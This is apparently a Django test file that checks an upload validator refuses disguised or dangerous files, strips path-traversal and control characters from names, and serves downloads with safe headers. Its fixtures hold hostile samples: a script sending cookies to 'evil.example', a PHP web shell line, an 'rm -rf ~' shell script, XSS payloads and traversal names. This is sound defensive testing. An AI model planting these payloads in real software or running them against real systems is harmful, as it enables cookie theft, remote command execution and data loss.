"""Files that try to be something they are not never reach the library, and what does reach it
is stored under a random name and sent back safely."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from documents.models import Document, DocumentVersion
from documents.samples import docx_bytes, pdf_bytes, png_bytes, xlsx_bytes
from documents.uploads import DocumentPolicy, check_upload, clean_filename, content_disposition
from tests.accounts.factories import UserFactory
from tests.communities.factories import CommunityFactory, member_of
from tests.search.helpers import committed

HTML = b"<!DOCTYPE html><html><body><script>fetch('/accounts/')</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
JS = b"document.location='https://evil.example/?c='+document.cookie"


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type)


def policy(**overrides):
    values = {
        "max_bytes": 1024 * 1024,
        "blocked_extensions": DocumentPolicy.from_settings().blocked_extensions,
    }
    values.update(overrides)
    return DocumentPolicy(**values)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("report.pdf", HTML, "disguised"),  # a web page calling itself a PDF
        ("photo.png", SVG, "disguised"),  # SVG with script, named as a PNG
        ("notes.txt", b"Hello <script>alert(1)</script>", "disguised"),  # script inside text
        ("minutes.docx", HTML, "disguised"),
        ("data.csv", b"\xef\xbb\xbf<html><img src=x onerror=alert(1)>", "disguised"),  # BOM first
        ("letter.doc", b"\xff\xfe" + "<html>".encode("utf-16-le"), "disguised"),  # UTF-16
        ("invoice.pdf", b"MZ\x90\x00" + b"\x00" * 60, "disguised"),  # a Windows program
        ("tool.zip.sh", b"#!/bin/sh\nrm -rf ~\n", "blocked"),
        ("payload.js", JS, "blocked"),
        ("page.html", HTML, "blocked"),
        ("logo.svg", SVG, "blocked"),
        ("setup.exe", b"MZ" + b"\x00" * 100, "blocked"),
        ("shell.PHP", b"<?php system($_GET['c']); ?>", "blocked"),
        ("fake.pdf", b"just some text, not a PDF", "mismatch"),
        ("fake.docx", pdf_bytes(), "mismatch"),  # a real PDF wearing a Word name
        ("fake.xlsx", docx_bytes(), "mismatch"),  # a Word document called a workbook
        ("README", b"no extension", "no_extension"),
        ("mystery.bin", SVG, "disguised"),  # unknown type: still sniffed
    ],
)
def test_disguised_dangerous_and_mislabelled_files_are_refused(name, content, code):
    with pytest.raises(ValidationError) as error:
        check_upload(upload(name, content), policy())
    assert error.value.code == code, error.value.messages


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("Site guide.pdf", pdf_bytes(), "application/pdf"),
        ("Team.png", png_bytes(), "image/png"),
        (
            "Agenda.docx",
            docx_bytes(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "Scores.xlsx",
            xlsx_bytes(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("notes.txt", "Café & crème – £5".encode(), "text/plain"),
        ("figures.csv", b"council,score\nDaventry,42\n", "text/csv"),
        ("plan.mpp", b"\x00\x01binary project file\xff", "application/octet-stream"),
        ("archive.zip", docx_bytes(), "application/zip"),
    ],
)
def test_real_documents_are_accepted_with_the_type_their_content_shows(name, content, content_type):
    checked = check_upload(upload(name, content, "text/html"), policy())  # the claim is ignored
    assert checked.content_type == content_type


def test_empty_and_oversized_files_are_refused_with_clear_messages():
    with pytest.raises(ValidationError, match="is empty"):
        check_upload(upload("empty.pdf", b""), policy())
    with pytest.raises(ValidationError) as error:
        check_upload(upload("big.pdf", b"%PDF-" + b"0" * (2 * 1024 * 1024)), policy())
    assert error.value.messages == [
        "“big.pdf” is 2.0\u00a0MB; files can be at most 1.0\u00a0MB. Make it smaller (for "
        "example save images at a lower resolution), or share a link to it instead."
    ]


def test_the_limits_come_from_settings(settings):
    settings.DOCUMENTS_MAX_UPLOAD_MB = 2
    settings.DOCUMENTS_BLOCKED_EXTENSIONS = ["pdf"]
    configured = DocumentPolicy.from_settings()
    assert configured.max_bytes == 2 * 1024 * 1024
    with pytest.raises(ValidationError, match=".PDF files"):
        check_upload(upload("guide.pdf", pdf_bytes()), configured)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.txt", "win.ini.txt"),
        ("/var/www/shell.pdf", "shell.pdf"),
        ("report\x00.exe.pdf", "report.exe.pdf"),
        ("  .hidden.pdf ", "hidden.pdf"),
        ("line\r\nbreak.pdf", "linebreak.pdf"),
        ("..", "document"),
        ("Café menu.pdf", "Café menu.pdf"),
    ],
)
def test_file_names_lose_folders_and_control_characters(given, kept):
    assert clean_filename(given) == kept


def test_content_disposition_never_lets_a_name_break_the_header():
    header = content_disposition('evil"; filename="x.html.pdf')
    assert header.startswith('attachment; filename="evil filename=x.html.pdf";')
    assert "filename*=UTF-8''evil%22%3B%20filename%3D%22x.html.pdf" in header
    assert content_disposition("Café.pdf", inline=True) == (
        "inline; filename=\"Cafe.pdf\"; filename*=UTF-8''Caf%C3%A9.pdf"
    )


@pytest.fixture
def member_client(client, db):
    community = CommunityFactory(name="Social Media and Online Collaboration")
    member = member_of(community, UserFactory(name="Neel Hatch"))
    client.force_login(member)
    client.community = community
    return client


def post_upload(client, file, title="Presentation"):
    url = reverse("documents:upload", args=[client.community.slug])
    with committed():
        return client.post(url, {"title": title, "description": "", "file": file})


def test_a_path_traversal_name_is_stored_under_a_random_name(member_client, settings):
    response = post_upload(member_client, upload("../../../cop_platform/settings.pdf", pdf_bytes()))
    assert response.status_code == 302
    version = DocumentVersion.objects.get()
    assert version.original_name == "settings.pdf"
    assert version.file.name.startswith("documents/") and ".." not in version.file.name
    assert "settings" not in version.file.name  # the member's name is not the storage name
    stored = (settings.MEDIA_ROOT / version.file.name).resolve()
    assert str(stored).startswith(str(settings.MEDIA_ROOT.resolve()))


def test_refused_uploads_keep_what_was_typed_and_say_why(member_client):
    response = post_upload(
        member_client, upload("slides.pdf", HTML, "application/pdf"), title="Kent presentation"
    )
    assert response.status_code == 200
    assert "contains a web page, SVG or script" in response.text
    assert 'value="Kent presentation"' in response.text
    empty = post_upload(member_client, upload("empty.pdf", b""), title="Empty")
    assert "The file you chose is empty (0 bytes)." in empty.text
    assert not Document.objects.exists()


def test_an_oversized_upload_is_refused(member_client, settings):
    settings.DOCUMENTS_MAX_UPLOAD_MB = 0.001  # about 1 KB
    response = post_upload(member_client, upload("big.pdf", pdf_bytes() + b"%" * 2048))
    assert "files can be at most" in response.text
    assert not Document.objects.exists()


def test_files_are_sent_as_downloads_except_safe_images_and_pdfs(member_client):
    for file in (upload("Agenda.docx", docx_bytes()), upload("notes.txt", b"plain notes")):
        post_upload(member_client, file, title=file.name)
    post_upload(member_client, upload("Team.png", png_bytes()), title="Photo")
    post_upload(member_client, upload("Guide.pdf", pdf_bytes()), title="Guide")
    headers = {}
    for document in Document.objects.all():
        response = member_client.get(
            reverse("documents:file", args=[member_client.community.slug, document.pk])
        )
        assert response.status_code == 200
        assert response["X-Content-Type-Options"] == "nosniff"
        headers[document.title] = (
            response["Content-Disposition"].split(";")[0],
            response["Content-Type"],
            response["Content-Security-Policy"],
        )
        b"".join(response.streaming_content)
    assert headers["Agenda.docx"][0] == "attachment"
    assert headers["notes.txt"][:2] == ("attachment", "text/plain")
    assert headers["Photo"][:2] == ("inline", "image/png")
    assert headers["Photo"][2] == "default-src 'none'; sandbox"
    assert headers["Guide"][:2] == ("inline", "application/pdf")
    assert headers["Guide"][2].startswith("default-src 'none'")
    download = member_client.get(
        reverse(
            "documents:file",
            args=[member_client.community.slug, Document.objects.get(title="Guide").pk],
        )
        + "?download=1"
    )
    assert download["Content-Disposition"].startswith('attachment; filename="Guide.pdf"')
    assert "sandbox" in download["Content-Security-Policy"]
